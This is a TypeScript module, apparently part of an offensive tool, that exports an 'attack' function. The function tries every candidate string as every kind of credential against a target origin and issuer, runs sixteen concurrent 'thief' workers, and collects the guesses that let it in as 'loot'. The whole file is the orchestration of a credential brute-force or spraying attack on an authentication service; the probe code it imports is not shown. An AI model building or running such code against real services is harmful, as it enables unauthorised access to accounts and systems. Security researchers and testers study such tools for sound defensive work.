import { type Clients, type Kind, KINDS, type Loot } from './loot.js';
import { probes } from './probes.js';

/** Something that let the thief in. */
export interface Entry {
  kind: Kind;
  candidate: string;
}

/** Tries every candidate at a node as every kind of credential, so many at a time; whatever worked. */
export async function attack(
  { origin, issuer }: { origin: string; issuer: string },
  clients: Clients,
  loot: Loot,
  candidates: Iterable<string>,
  concurrency = 16,
): Promise<Entry[]> {
  const entries: Entry[] = [];
  const queue = candidates[Symbol.iterator]();
  const thief = async () => {
    const tries = probes(origin, issuer, clients, loot);
    for (let next = queue.next(); !next.done; next = queue.next()) {
      for (const kind of KINDS) {
        if (await tries[kind](next.value)) entries.push({ kind, candidate: next.value });
      }
    }
  };
  await Promise.all(Array.from({ length: concurrency }, thief));
  return entries;
}
